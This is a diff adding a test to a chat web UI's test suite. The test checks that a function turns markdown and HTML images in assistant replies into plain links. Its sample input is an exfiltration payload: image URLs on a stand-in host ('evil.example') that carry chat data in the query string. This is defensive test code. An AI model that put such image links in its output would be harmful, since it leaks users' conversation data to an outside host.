@@ -307,3 +307,13 @@ def test_sharegpt_markdown_and_json(store):
     assert md.startswith("# Capitals") and "## System\n\nbe brief" in md and "## User\n\nq2" in md
     body = json.loads(json.dumps(export.to_json(conv)))
     assert [m["role"] for m in body["messages"]] == [U, A, U] and body["system_prompt"] == "be brief"
+
+
+def test_replies_show_image_links_instead_of_loading_images():
+    from webui.callbacks import no_remote_images
+
+    leak = "Done! ![x](https://evil.example/p.png?chat=secret) and ![][ref] <img src=https://evil.example/q>"
+    shown = no_remote_images(leak)
+    assert "![" not in shown and "<img" not in shown.lower()
+    assert "[image: x](https://evil.example/p.png?chat=secret)" in shown  # the link stays, as a link
+    assert no_remote_images("a [link](https://x.org) and `code`") == "a [link](https://x.org) and `code`"
